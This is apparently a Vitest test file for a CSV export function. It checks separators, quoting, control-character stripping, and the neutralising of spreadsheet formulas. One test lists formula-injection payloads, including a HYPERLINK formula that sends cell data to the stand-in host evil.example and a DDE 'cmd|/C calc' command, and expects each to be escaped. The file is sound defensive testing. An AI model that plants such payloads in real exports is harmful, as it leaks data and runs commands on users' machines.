import { expect, test } from 'vitest'
import { csvOf } from './csv.ts'

test('a table has a byte order mark, semicolons, decimal commas and CRLF', () => {
  expect(
    csvOf([
      ['Dag', 'Kostnad'],
      ['2026-05-16', 1900.5],
      [null, 12],
    ]),
  ).toBe('\uFEFFDag;Kostnad\r\n2026-05-16;1900,5\r\n;12\r\n')
})

test('quotes, semicolons and line breaks stand within quotes', () => {
  expect(csvOf([['Byte av "tak"', 'a;b', 'två\nrader', 'a,b']])).toBe(
    '\uFEFF"Byte av ""tak""";"a;b";"två\nrader";a,b\r\n',
  )
})

test.each([
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-1+2',
  '@SUM(A1)',
  ' =1+1',
  '\t=1',
  '＝1',
  '|calc',
])('%j is text, and no formula', (text) => {
  const [line = ''] = csvOf([[text]])
    .slice(1)
    .split('\r\n')
  expect(line.replace(/^"/, '').startsWith("'")).toBe(true)
})

test('what was stored with control characters and turned text is written without', () => {
  expect(csvOf([['Vil\u202ela\u0007', 'rad\r\nrad', '\u0000=1+1']])).toBe('\uFEFFVilla;"rad\nrad";\'=1+1\r\n')
})

test('a number is no formula, though it begins with a minus', () => {
  expect(csvOf([[-5, 0]])).toBe('\uFEFF-5;0\r\n')
})
